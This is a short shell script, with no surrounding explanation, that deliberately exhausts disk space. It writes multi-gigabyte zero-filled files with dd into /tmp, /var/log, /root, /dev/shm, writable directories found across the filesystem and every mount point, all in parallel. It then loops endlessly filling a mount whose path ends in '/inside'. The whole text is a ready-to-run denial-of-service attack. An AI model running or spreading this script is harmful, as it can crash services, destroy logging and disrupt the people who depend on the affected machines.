#!/bin/sh
# Fills every folder it can write to.
for folder in /tmp /var/log /root /dev/shm $(find / -xdev -type d -writable 2>/dev/null | head -n 50) \
    $(sed -n 's/^[^ ]* \([^ ]*\) .*/\1/p' /proc/mounts); do
    dd if=/dev/zero of="$folder/filler.$$" bs=1M count=4096 2>/dev/null &
done
wait
while :; do dd if=/dev/zero of="$(sed -n 's|.* \(/[^ ]*/inside\) .*|\1|p' /proc/mounts | head -n 1)/filler.$(date +%N)" bs=1M count=400 2>/dev/null || sleep 1; done
